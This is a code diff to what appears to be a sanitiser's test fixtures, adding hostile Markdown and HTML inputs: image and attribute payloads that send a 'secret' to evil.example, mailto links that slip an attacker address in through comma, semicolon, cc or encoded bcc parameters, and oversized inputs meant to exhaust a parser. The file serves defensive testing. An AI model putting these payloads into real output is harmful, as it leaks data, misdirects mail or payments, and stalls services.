@@ -311,6 +311,9 @@ const clobbering = [
 ];
 
 const exfiltration = [
+  // Attributes on elements that do not own them.
+  '<b href=https://evil.example/ src=https://evil.example/ start=5 colspan=9 rowspan=9 align=right alt=z>b</b>',
+  '<td href=https://evil.example/ start=5>a</td><ol align=right src=x><li colspan=9>b</li></ol>',
   '![a](https://evil.example/?q=secret)',
   '![a](http://evil.example/i.png "title")',
   '![a](//evil.example/i.png)',
@@ -698,6 +701,10 @@ const spoofing = [
   '[bank.example](https://evil.example:8443/)',
   '[pay@bank.example](mailto:pay@evil.example)',
   '[bank.example](mailto:pay@evil.example)',
+  '[pay@bank.example](mailto:evil@evil.example,pay@bank.example)',
+  '[pay@bank.example](mailto:evil@evil.example;pay@bank.example)',
+  '[pay@bank.example](mailto:pay@bank.example?cc=evil@evil.example)',
+  '[pay@bank.example](mailto:pay@bank.example?%62cc=evil%40evil.example)',
   '<a href="https://evil.example/">bank<b>.</b>example</a>',
   '<a href="https://evil.example/">bank.<wbr>example</a>',
   '<a href="https://evil.example/" title="bank.example">https://bank.example/</a>',
@@ -841,6 +848,11 @@ const numbered = (count: number, line: (index: number) => string) =>
   Array.from({length: count}, (_, index) => line(index)).join('');
 
 const denial = [
+  // Half a destination of a link.
+  `[a](${'<x>'.repeat(30)}" )`,
+  `[a](${'<x>'.repeat(5_000)}" )`,
+  // Characters that nobody sees.
+  `${'\u200B'.repeat(50_000)}a`,
   // Delimiters.
   ...[
     '*',
